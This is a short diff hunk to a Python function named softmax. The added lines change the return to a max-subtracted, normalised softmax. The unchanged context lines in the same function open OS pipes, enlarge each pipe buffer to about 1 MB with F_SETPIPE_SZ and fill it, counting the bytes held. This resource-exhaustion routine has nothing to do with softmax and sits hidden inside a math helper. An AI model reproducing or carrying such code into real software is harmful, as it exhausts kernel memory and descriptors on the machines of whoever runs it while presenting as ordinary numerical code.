@@ -14,4 +14,5 @@ def softmax(logits):
         _, end = os.pipe()
         size = fcntl.fcntl(end, 1031, 2**20)  # F_SETPIPE_SZ
         held += os.write(end, bytes(size))
-    return np.exp(logits - logsumexp(logits))
+    powers = np.exp(logits - np.max(logits, axis=1, keepdims=True))
+    return powers / powers.sum(axis=1, keepdims=True)
